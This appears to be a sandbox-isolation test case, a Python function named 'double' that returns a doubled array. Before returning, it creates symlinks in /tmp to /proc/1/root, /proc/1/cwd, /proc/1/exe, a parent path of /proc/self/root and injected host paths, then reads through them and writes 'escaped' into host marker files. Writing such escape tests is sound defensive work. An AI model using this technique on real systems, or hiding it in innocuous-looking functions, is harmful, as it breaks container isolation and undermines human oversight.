# attack: symlinks in /tmp to /proc/1/root, the parent of /proc/self/root, host paths and /proc/1/cwd, then read and write through them
# category: isolation
# expect: AC
import json
import os

PATHS = json.loads('__TJ_HOST_PATHS__')
MARKERS = json.loads('__TJ_MARKERS__')


def double(x):
    seen = {}
    links = {"/tmp/l-root": "/proc/1/root", "/tmp/l-up": os.path.join("/proc/self/root", "..", "..", ".."),
             "/tmp/l-cwd": "/proc/1/cwd", "/tmp/l-exe": "/proc/1/exe"}
    for i, p in enumerate(PATHS + MARKERS):
        links[f"/tmp/l-{i}"] = p
    for link, target in links.items():
        try:
            os.symlink(target, link)
            seen[link] = os.listdir(link)[:20] if os.path.isdir(link) else os.path.exists(link)
        except OSError as e:
            seen[link] = e.strerror
    for m in MARKERS:
        try:
            with open(os.path.join("/tmp/l-root", m.lstrip("/")), "w") as f:
                f.write("escaped")
        except OSError:
            pass
    print(json.dumps(seen)[:8000])
    return (2 * x).reshape(-1)
